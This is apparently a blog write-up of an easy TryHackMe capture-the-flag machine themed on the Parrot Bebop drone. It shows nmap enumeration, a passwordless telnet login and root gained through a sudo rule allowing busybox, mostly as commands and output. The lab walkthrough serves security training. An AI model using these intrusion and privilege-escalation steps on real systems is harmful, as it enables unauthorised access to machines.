Hello everyone, Today's CTF is available at www.Tryhackme.com rated as an easy challenge so it won't be hard for someone just starting in the field, the concept is based on the Parrot Bebop drone and brings a huge inspiration of the memory of the DEFCON 23 speech "Knocking my neighbour's kids cruddy drone offline", feel free to give it a check, the talk carries a lot of good information.

Let's start with some enumeration
root@kali:~# nmap -sC -sV
Starting Nmap 7.80 ( https://nmap.org ) at 2020-04-13 17:15 UTC
Nmap scan report for ip-10-10-116-147.eu-west-1.compute.internal (
Host is up (0.00032s latency).
Not shown: 998 closed ports
22/tcp open  ssh     OpenSSH 7.5 (FreeBSD 20170903; protocol 2.0)
| ssh-hostkey:
|   2048 5b:e6:85:66:d8:dd:04:f0:71:7a:81:3c:58:ad:0b:b9 (RSA)
|   256 d5:4e:18:45:ba:d4:75:2d:55:2f:fe:c9:1c:db:ce:cb (ECDSA)
|_  256 96:fc:cc:3e:69:00:79:85:14:2a:e4:5f:0d:35:08:d4 (ED25519)
23/tcp open  telnet  BSD-derived telnetd
MAC Address: 02:17:77:E9:CA:4E (Unknown)
Service Info: OS: FreeBSD; CPE: cpe:/o:freebsd:freebsd

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 14.64 seconds
Telnet to the machine no credentials needed and the username is provided in the challenge.
root@kali:~#telnet
Connected to
Escape character is '^]'.
login: pilot
Last login: Sat Oct  5 23:48:53 from cpc147224-roth10-2-0-cust456.17-1.cable.virginm.net
FreeBSD 11.2-STABLE (GENERIC) #0 r345837: Thu Apr  4 02:07:22 UTC 2019

Welcome to FreeBSD!

Release Notes, Errata: https://www.FreeBSD.org/releases/
Security Advisories:   https://www.FreeBSD.org/security/
FreeBSD Handbook:      https://www.FreeBSD.org/handbook/
FreeBSD FAQ:           https://www.FreeBSD.org/faq/
Questions List: https://lists.FreeBSD.org/mailman/listinfo/freebsd-questions/
FreeBSD Forums:        https://forums.FreeBSD.org/

Documents installed with the system are in the /usr/local/share/doc/freebsd/
directory, or can be installed later with:  pkg install en-freebsd-doc
For other languages, replace "en" with a language code like de or fr.

Show the version of FreeBSD installed:  freebsd-version ; uname -a
Please include that output and any error messages when posting questions.
Introduction to manual pages:  man man
FreeBSD directory layout:      man hier

Edit /etc/motd to change this login announcement.
You can use "pkg info" to see a list of packages you have installed.
[pilot@freebsd ~]$
The user flag is in the user pilot directory.
[pilot@freebsd ~]$ ls
[pilot@freebsd ~]$ cat user.txt
[pilot@freebsd ~]$
Privilege escalation
[pilot@freebsd /]$ sudo -l
User pilot may run the following commands on freebsd:
    (root) NOPASSWD: /usr/local/bin/busybox
[pilot@freebsd /]$ sudo /usr/local/bin/busybox sh
# id
uid=0(root) gid=0(wheel) groups=0(wheel),5(operator)And that's it, very quick tasty machine to exploit.

Happy Hacking

TryHackMe | Hacking Training
An online platform for learning and teaching cyber security, all through your browser.
You can support my content, and help me do more andmore by becoming a Patron!